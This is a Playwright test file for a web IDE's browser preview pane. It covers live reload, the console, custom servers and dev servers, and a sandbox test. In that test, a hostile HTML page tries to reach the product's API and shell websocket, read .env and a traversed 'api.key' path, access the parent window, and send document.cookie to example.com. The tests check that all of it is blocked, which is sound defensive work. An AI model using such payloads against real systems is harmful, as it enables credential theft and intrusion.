import { mkdir, writeFile } from 'node:fs/promises'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import type { Page } from '@playwright/test'
import { createServer } from 'vite'
import { WebSocketServer } from 'ws'
import { callServer } from './support/drydock.ts'
import { expect, test } from './support/fixtures.ts'
import { picture } from './support/look.ts'
import { shows, type } from './support/terminal.ts'

const paneOf = (page: Page) => page.getByRole('tabpanel', { name: 'Browser Preview', exact: true })
const paneFiles = (page: Page) => page.getByRole('tabpanel', { name: 'Files', exact: true })
const frameOf = (page: Page) => paneOf(page).frameLocator('iframe')

/** As any program in the page may ask for it. */
async function navigate(page: Page, detail: object) {
	await page.evaluate((given) => dispatchEvent(new CustomEvent('vt:browserPreview:navigate', { detail: given })), detail)
	await expect(paneOf(page)).toBeVisible()
}

async function put(project: string, files: Record<string, string>) {
	for (const [name, text] of Object.entries(files)) {
		await mkdir(path.dirname(path.join(project, name)), { recursive: true })
		await writeFile(path.join(project, name), text)
	}
}

test('a page of the project is shown and follows what is saved, also in files that it uses; links and sizes work', async ({ desk, project, problems }) => {
	await put(project, {
		'site/index.html': '<!doctype html><title>One</title><link rel="stylesheet" href="look.css"><script type="module" src="app.js"></script><h1>First</h1><p id="out"></p><a href="two.html">on</a>',
		'site/look.css': 'h1 { color: rgb(1, 2, 3) }',
		'site/app.js': "document.querySelector('#out').textContent = (await (await fetch('data.json')).json()).x",
		'site/data.json': '{"x": 7}',
		'site/two.html': '<h1>Second</h1>',
	})
	await navigate(desk, { path: 'site/index.html' })
	const frame = frameOf(desk)
	await expect(frame.getByRole('heading')).toHaveText('First')
	await expect(frame.locator('#out')).toHaveText('7')
	await picture(paneOf(desk), 'preview-files')
	await put(project, { 'site/index.html': '<!doctype html><title>One</title><link rel="stylesheet" href="look.css"><h1>Changed</h1><a href="two.html">on</a>' })
	await expect(frame.getByRole('heading')).toHaveText('Changed')
	await put(project, { 'site/look.css': 'h1 { color: rgb(9, 9, 9) }' })
	await expect(frame.getByRole('heading')).toHaveCSS('color', 'rgb(9, 9, 9)')

	await frame.getByRole('link').click()
	await expect(frame.getByRole('heading')).toHaveText('Second')
	await expect(paneOf(desk).getByRole('textbox', { name: 'Path' })).toHaveValue('site/two.html')
	await put(project, { 'site/two.html': '<h1>Second, later</h1>' })
	await expect(frame.getByRole('heading')).toHaveText('Second, later')

	await paneOf(desk).getByRole('checkbox', { name: 'Auto-reload' }).uncheck()
	await put(project, { 'site/two.html': '<h1>Third</h1>' })
	await paneOf(desk).getByRole('combobox', { name: 'Size' }).selectOption('Phone')
	expect(await frame.locator('html').evaluate((root) => [root.ownerDocument.defaultView?.innerWidth, root.ownerDocument.defaultView?.innerHeight])).toEqual([393, 852])
	await expect(frame.getByRole('heading')).toHaveText('Second, later')
	await paneOf(desk).getByRole('button', { name: 'Refresh' }).click()
	await expect(frame.getByRole('heading')).toHaveText('Third')
	await picture(paneOf(desk), 'preview-phone')

	await paneOf(desk).getByRole('textbox', { name: 'Path' }).fill('site/index.html')
	await paneOf(desk).getByRole('textbox', { name: 'Path' }).press('Enter')
	await expect(frame.getByRole('heading')).toHaveText('Changed')
	const [opened] = await Promise.all([desk.context().waitForEvent('page'), paneOf(desk).getByRole('link', { name: 'Open' }).click()])
	await expect(opened.getByRole('heading')).toHaveText('Changed')
	expect(await opened.evaluate(() => opener)).toBe(null)
	// Its storage is its own and not the product's.
	expect(await opened.evaluate(() => (localStorage.setItem('n', 'kept'), Object.keys(localStorage)))).toEqual(['n'])
	await opened.close()
	await desk.reload()
	await expect(frameOf(desk).getByRole('heading')).toHaveText('Changed')
	expect(problems).toEqual([])
})

test('polling: as often as is set, never more; not while nobody looks', async ({ desk, project }) => {
	await put(project, { 'p.html': '<h1>p</h1>' })
	const heads: number[] = []
	desk.on('request', (request) => request.method() === 'HEAD' && request.url().includes('/fs/preview/') && heads.push(Date.now()))
	await navigate(desk, { path: 'p.html' })
	const interval = paneOf(desk).getByRole('spinbutton', { name: 'Interval' })
	// spec: preview poll
	await expect(interval).toHaveValue('1000')
	await interval.fill('5')
	await interval.press('Enter')
	// spec: preview interval minimum
	await expect(interval).toHaveValue('300')
	heads.length = 0
	await expect.poll(() => heads.length).toBeGreaterThan(3)
	const gaps = heads.slice(1).map((at, index) => at - (heads[index] ?? 0))
	// spec: preview later poll minimum
	for (const gap of gaps.slice(1)) expect(gap).toBeGreaterThan(450)
	const cover = desk.getByRole('tab', { name: 'Maestro' })
	await cover.click()
	await expect(paneOf(desk)).toBeHidden()
	const before = heads.length
	// That nothing happens can only be seen by letting time pass: four intervals.
	await desk.evaluate(() => new Promise((resolve) => setTimeout(resolve, 2000)))
	expect(heads.length - before).toBeLessThanOrEqual(1)
})

test('the console shows what the page says, as text; a flood stays small', async ({ desk, project, problems }) => {
	await put(project, {
		'say.html': `<script>
			console.log('plain', { a: [1, 2] }); console.warn('<b>careful</b>'); console.error(new Error('broken'));
			Promise.reject(new Error('left alone'));
			fetch('https://example.com/tell?x').catch(() => {});
			parent.postMessage({ drydock: 'console', entries: [{ level: 'error', text: 'x'.repeat(1e6) }, { level: 'evil', text: 'no' }, 7], dropped: 1e99 }, '*')
			parent.postMessage({ drydock: 'console', entries: 5 }, '*'); parent.postMessage({ drydock: 'page', url: 'javascript:alert(1)' }, '*'); parent.postMessage('vt:layout:reset', '*')
		</script><button onclick="for (let i = 0; i < 20000; i++) console.log('flood ' + i)">flood</button><h1>says</h1>`,
	})
	await navigate(desk, { path: 'say.html' })
	await paneOf(desk).getByRole('button', { name: 'Console', exact: true }).click()
	const console_ = paneOf(desk).getByRole('region', { name: 'Console' })
	await expect(console_).toContainText('plain {"a":[1,2]}')
	await expect(console_).toContainText('<b>careful</b>')
	await expect(console_).toContainText('broken')
	await expect(console_).toContainText('Unhandled rejection')
	await expect(console_).toContainText('https://example.com/tell?x (connect-src)')
	await expect(console_.getByRole('button', { name: 'Allow internet' })).toBeVisible()
	await picture(paneOf(desk), 'preview-console')
	await frameOf(desk).getByRole('button', { name: 'flood' }).click()
	await expect(console_).toContainText('19,950 more messages are not shown')
	expect(await console_.locator('p').count()).toBeLessThanOrEqual(300)
	expect(await paneOf(desk).getByRole('link', { name: 'Open' }).getAttribute('href')).toMatch(/^http:/)
	// The page writes errors of its own; none of them is the product's.
	problems.length = 0
})

const attacks = (product: string, port: number) => `<script>
const product = ${JSON.stringify(product)}, results = {}
const attempt = async (name, work) => { try { results[name] = String(await work()).slice(0, 200) } catch (error) { results[name] = 'refused ' + error.name } }
;(async () => {
	for (const [name, base] of [['product', product], ['loopback', 'http://127.0.0.1:${port}'], ['localhost', 'http://localhost:${port}']]) {
		await attempt(name + ' reads', async () => (await fetch(base + '/fs/file?cwd=/sandbox&path=x', { credentials: 'include' })).text())
		await attempt(name + ' blind', async () => (await fetch(base + '/session', { mode: 'no-cors', credentials: 'include' })).type)
		await attempt(name + ' posts', async () => (await fetch(base + '/fs/write', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })).text())
		await attempt(name + ' socket', () => new Promise((resolve, reject) => { const socket = new WebSocket(base.replace('http', 'ws') + '/shell/pty'); socket.onopen = () => resolve('open'); socket.onerror = () => reject(new Error('closed')) }))
		await attempt(name + ' frame', () => new Promise((resolve) => { const inner = document.createElement('iframe'); inner.src = base + '/'; inner.onload = () => { try { resolve(inner.contentDocument.body.textContent || 'empty') } catch { resolve('refused cross') } }; document.documentElement.append(inner); setTimeout(() => resolve('refused none'), 1500) }))
	}
	await attempt('own API', async () => (await fetch('/session')).status)
	await attempt('own write', async () => (await fetch('/fs/write', { method: 'POST', body: '{}' })).status)
	await attempt('hidden', async () => (await fetch('/fs/preview/.env')).status)
	await attempt('above', async () => (await fetch('/fs/preview/..%2f..%2fdata%2fapi.key')).status)
	await attempt('parent document', () => parent.document.title)
	await attempt('parent storage', () => parent.localStorage.length)
	await attempt('parent moved', () => { parent.location = 'http://127.0.0.1:1/'; return 'moved' })
	await attempt('top moved', () => { top.location.href = 'http://127.0.0.1:1/'; return 'moved' })
	await attempt('window', () => String(window.open('https://example.com/?' + document.cookie)))
	await attempt('service worker', async () => (await navigator.serviceWorker.register('/fs/preview/evil.html')).scope)
	await attempt('worker with rules', () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(["fetch('https://example.com/').then(() => postMessage('loaded'), () => postMessage('refused'))"]))); worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => reject(new Error('none')) }))
	await attempt('inner frame', () => new Promise((resolve) => { const inner = document.createElement('iframe'); inner.srcdoc = '<script>fetch("https://example.com/").then(() => parent.postMessage("loaded", "*"), () => parent.postMessage("refused", "*"))</' + 'script>'; addEventListener('message', ({ data }) => resolve(data)); document.documentElement.append(inner) }))
	await attempt('cookies', () => document.cookie || 'none')
	await attempt('internet', async () => (await fetch('https://example.com/')).type)
	await attempt('picture', () => new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve('loaded'); image.onerror = () => reject(new Error('none')); image.src = 'http://127.0.0.1:1/x.png' }))
	document.title = 'done'
	document.body.append(Object.assign(document.createElement('pre'), { id: 'results', textContent: JSON.stringify(results) }))
})()
</script><body>`

test('a hostile page reads nothing of the API, of other roots, of hidden files or of the page around it, and tells nothing to anyone', async ({ desk, project, server, problems }) => {
	await put(project, { 'evil.html': attacks(new URL(desk.url()).origin, server.port), '.env': 'KEY=secret' })
	const went: string[] = []
	desk.on('framenavigated', (frame) => frame === desk.mainFrame() && went.push(frame.url()))
	const windows: string[] = []
	desk.context().on('page', (page) => windows.push(page.url()))
	await navigate(desk, { path: 'evil.html' })
	const results = JSON.parse((await frameOf(desk).locator('#results').textContent()) ?? '{}') as Record<string, string>
	const { 'own API': api, 'own write': write, hidden, above, cookies, window: opened, ...others } = results
	expect({ api, write, hidden, above, cookies, opened }).toEqual({ api: '404', write: '405', hidden: '403', above: '403', cookies: 'none', opened: 'null' })
	for (const [name, result] of Object.entries(others)) expect(result, name).toMatch(/^refused/)
	expect(JSON.stringify(results)).not.toContain('secret')
	expect(went).toEqual([])
	expect(windows).toEqual([])
	// Nor does the product's origin run it: there it is inert text for programs.
	const direct = await fetch(`${server.url}/fs/preview/evil.html?${new URLSearchParams({ cwd: project })}`)
	expect(direct.status).toBe(401)
	problems.length = 0
})

test('the server starts again: what is saved after that is shown as before', async ({ desk, server, start, project, problems }) => {
	await put(project, { 'again.html': '<h1>Before</h1>' })
	await paneFiles(desk).getByRole('treeitem', { name: 'again.html' }).click({ button: 'right' })
	await desk.getByRole('menuitem', { name: 'Preview' }).click()
	await expect(frameOf(desk).getByRole('heading')).toHaveText('Before')
	await server.kill()
	await start({ port: server.port })
	await put(project, { 'again.html': '<h1>After</h1>' })
	await expect(frameOf(desk).getByRole('heading')).toHaveText('After')
	problems.length = 0
})

test('with the internet allowed, a hostile page still reaches neither the API nor the page around it', async ({ desk, project, server, problems }) => {
	await put(project, { 'evil.html': attacks(new URL(desk.url()).origin, server.port) })
	await navigate(desk, { path: 'evil.html' })
	await paneOf(desk).getByRole('button', { name: 'Pages reach this folder only: allow the internet' }).click()
	await expect(paneOf(desk).getByRole('button', { name: /forbid it/ })).toBeVisible()
	const results = JSON.parse((await frameOf(desk).locator('#results').textContent()) ?? '{}') as Record<string, string>
	for (const [name, result] of Object.entries(results)) if (/^(product|loopback|localhost|parent|top)/.test(name) && !name.endsWith('blind')) expect(result, name).toMatch(/^refused/)
	expect(results['own API']).toBe('404')
	problems.length = 0
})

test('a server of one’s own: its page, its calls, sockets and cookies work; it is reached under a name of its own only', async ({ desk, server, problems }) => {
	let cookie: string | undefined
	const own = http.createServer((request, reply) => {
		if (request.url === '/who') {
			cookie = request.headers.cookie
			return reply.end(`at ${request.headers.host}`)
		}
		reply.writeHead(200, { 'content-type': 'text/html', 'x-frame-options': 'DENY', 'set-cookie': 'login=yes; HttpOnly; SameSite=Lax' })
		return reply.end(`<!doctype html><title>Mine</title><h1>My server</h1><p id="who"></p><p id="said"></p><script>
			console.info('from my server')
			fetch('/who').then((reply) => reply.text()).then((text) => (who.textContent = text))
			const socket = new WebSocket('ws://' + location.host + '/live'); socket.onopen = () => socket.send('hi'); socket.onmessage = ({ data }) => (said.textContent = data)
		</script>`)
	})
	new WebSocketServer({ server: own }).on('connection', (socket) => socket.on('message', (data) => socket.send(`echo ${String(data)}`)))
	await new Promise<void>((resolve) => own.listen(0, '127.0.0.1', resolve))
	const { port } = own.address() as AddressInfo
	try {
		await navigate(desk, { url: `http://localhost:${port}/` })
		const frame = frameOf(desk)
		await expect(frame.getByRole('heading')).toHaveText('My server')
		await expect(frame.locator('#who')).toHaveText(`at localhost:${port}`)
		await expect(frame.locator('#said')).toHaveText('echo hi')
		expect(cookie).toBe('login=yes')
		await paneOf(desk).getByRole('button', { name: 'Console', exact: true }).click()
		await expect(paneOf(desk).getByRole('region', { name: 'Console' })).toContainText('from my server')
		await picture(paneOf(desk), 'preview-port')
		const name = new URL(await frame.locator('html').evaluate((root) => root.ownerDocument.URL)).host
		expect(name).toMatch(/^port-[0-9a-f]{32}\.localhost:/)
		// The cookie went to that name alone.
		const jar = await desk.context().cookies()
		expect(jar.map(({ name: key, domain }) => `${key} ${domain}`)).toEqual([`login ${name.split(':')[0]}`])
		expect((await callServer(server, 'POST', '/preview/port', { port: server.port })).status).toBe(403)
	} finally {
		own.closeAllConnections()
		own.close()
	}
	// It stopped: the page says so, and comes back with it.
	await paneOf(desk).getByRole('button', { name: 'Refresh' }).click()
	await expect(frameOf(desk).getByRole('heading')).toHaveText(`Nothing answers on port ${port}`)
	const again = http.createServer((_, reply) => reply.setHeader('content-type', 'text/html').end('<h1>Back</h1>'))
	await new Promise<void>((resolve) => again.listen(port, '127.0.0.1', resolve))
	await expect(frameOf(desk).getByRole('heading')).toHaveText('Back')
	again.closeAllConnections()
	again.close()
	problems.length = 0
})

test('a real dev server works as it does by itself: modules, styles and live updates without a reload', async ({ desk, project, problems }) => {
	await put(project, {
		'app/index.html': '<!doctype html><div id="root"></div><p id="kept"></p><script type="module" src="/main.js"></script>',
		'app/main.js': "import './look.css'\nimport { word } from './word.js'\nconst show = (text) => (document.querySelector('#root').textContent = text)\nshow(word)\ndocument.querySelector('#kept').textContent ||= String(performance.timeOrigin)\nimport.meta.hot.accept('./word.js', (next) => show(next.word))\n",
		'app/word.js': "export const word = 'one'\n",
		'app/look.css': '#root { color: rgb(1, 2, 3) }',
	})
	const server = await createServer({ root: path.join(project, 'app'), configFile: false, logLevel: 'silent', server: { port: 0, host: '127.0.0.1' }, cacheDir: path.join(project, '.vite') })
	await server.listen()
	try {
		const [address = ''] = server.resolvedUrls?.local ?? []
		await navigate(desk, { url: address })
		const frame = frameOf(desk)
		await expect(frame.locator('#root')).toHaveText('one')
		await expect(frame.locator('#root')).toHaveCSS('color', 'rgb(1, 2, 3)')
		const loaded = await frame.locator('#kept').textContent()
		await put(project, { 'app/word.js': "export const word = 'two'\n" })
		await expect(frame.locator('#root')).toHaveText('two')
		await put(project, { 'app/look.css': '#root { color: rgb(4, 5, 6) }' })
		await expect(frame.locator('#root')).toHaveCSS('color', 'rgb(4, 5, 6)')
		expect(await frame.locator('#kept').textContent()).toBe(loaded)
	} finally {
		await server.close()
	}
	problems.length = 0
})

test('in a window of its own the page loads anew and is still heard', async ({ desk, project, problems }) => {
	await put(project, { 'out.html': "<h1>Out</h1><button onclick=\"console.log('pressed')\">press</button>" })
	await navigate(desk, { path: 'out.html' })
	await paneOf(desk).getByRole('button', { name: 'Console', exact: true }).click()
	await expect(frameOf(desk).getByRole('heading')).toHaveText('Out')
	const tabs = desk.locator('.flexlayout__tabset').filter({ has: desk.getByRole('tab', { name: 'Browser Preview' }) })
	const [window] = await Promise.all([desk.context().waitForEvent('page'), tabs.getByRole('button', { name: 'Popout selected tab' }).click()])
	const frame = window.frameLocator('iframe[title=Preview]')
	await expect(frame.getByRole('heading')).toHaveText('Out')
	await frame.getByRole('button', { name: 'press' }).click()
	await expect(window.getByRole('region', { name: 'Console' })).toContainText('pressed')
	await put(project, { 'out.html': '<h1>Still out</h1>' })
	await expect(frame.getByRole('heading')).toHaveText('Still out')
	problems.length = 0
})

test('a server started in a terminal is offered by its port', async ({ desk, project }) => {
	await put(project, { 'serve.mjs': "import http from 'node:http'\nconst s = http.createServer((q, r) => r.setHeader('content-type', 'text/html').end('<h1>From the terminal</h1>'))\ns.listen(0, '127.0.0.1', () => console.log('up on ' + s.address().port))\n" })
	await shows(desk, /[#$]$/m)
	await type(desk, `${process.execPath} serve.mjs`)
	await shows(desk, /up on \d+/)
	await navigate(desk, {})
	await paneOf(desk).getByRole('combobox', { name: 'Source' }).selectOption('Port')
	const ports = paneOf(desk).getByRole('combobox', { name: 'Ports in terminals' })
	await expect(ports.getByRole('option', { name: /· (node|MainThread)/ })).toHaveCount(1)
	await ports.selectOption({ index: 1 })
	await expect(frameOf(desk).getByRole('heading')).toHaveText('From the terminal')
})
